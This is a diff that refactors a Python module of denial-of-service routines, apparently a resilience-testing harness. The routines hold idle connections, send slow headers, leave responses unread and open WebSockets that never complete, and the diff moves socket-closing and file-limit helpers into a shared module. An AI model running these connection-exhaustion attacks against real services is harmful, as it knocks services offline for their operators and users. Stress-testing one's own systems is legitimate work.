@@ -2,12 +2,20 @@
 
 import contextlib
 import itertools
-import resource
 import socket
 import time
 from collections.abc import Callable
 
-from attacks.wire import LARGE_FRAMES, SMALL_FRAMES, Target, again_and_again, answer_to, request
+from attacks.wire import (
+    LARGE_FRAMES,
+    SMALL_FRAMES,
+    Target,
+    again_and_again,
+    answer_to,
+    close_all,
+    raise_file_limit,
+    request,
+)
 
 IDLE = 1_100
 SLOW = 200
@@ -18,7 +26,7 @@ HANDSHAKES = 1_500
 def idle_connections(target: Target) -> None:
     held = _open(target, IDLE, target.connect)
     target.hold()
-    _close(held)
+    close_all(held)
 
 
 def slow_heads(target: Target) -> None:
@@ -39,7 +47,7 @@ def unread_answers(target: Target) -> None:
     for tcp in held:
         tcp.sendall(request("GET", f"/api/events/{target.departments['large']}"))
     target.hold()
-    _close(held)
+    close_all(held)
 
 
 def pipelined_requests(target: Target) -> None:
@@ -82,7 +90,7 @@ def handshakes_by_websocket(target: Target) -> None:
     """Open WebSockets that never send CONNECT."""
     held = _open(target, HANDSHAKES, lambda: target.websocket(joins=False))
     target.hold()
-    _close(held)
+    close_all(held)
 
 
 def handshakes_by_polling(target: Target) -> None:
@@ -111,8 +119,7 @@ def _send_chunked(target: Target, part: bytes, bytes_per_s: int, beginning: byte
 
 def _open(target: Target, count: int, connect: Callable[[], socket.socket]) -> list[socket.socket]:
     """Open connections until there are enough, or the attack ends."""
-    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
-    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    raise_file_limit()
     held: list[socket.socket] = []
     while len(held) < count and target.remaining_s:
         with contextlib.suppress(OSError):  # refused, or not answered in time
@@ -129,9 +136,4 @@ def _trickle(target: Target, held: list[socket.socket], beginning: bytes) -> Non
         if not target.remaining_s:
             break
         time.sleep(min(1.0, target.remaining_s))
-    _close(held)
-
-
-def _close(held: list[socket.socket]) -> None:
-    for tcp in held:
-        tcp.close()
+    close_all(held)
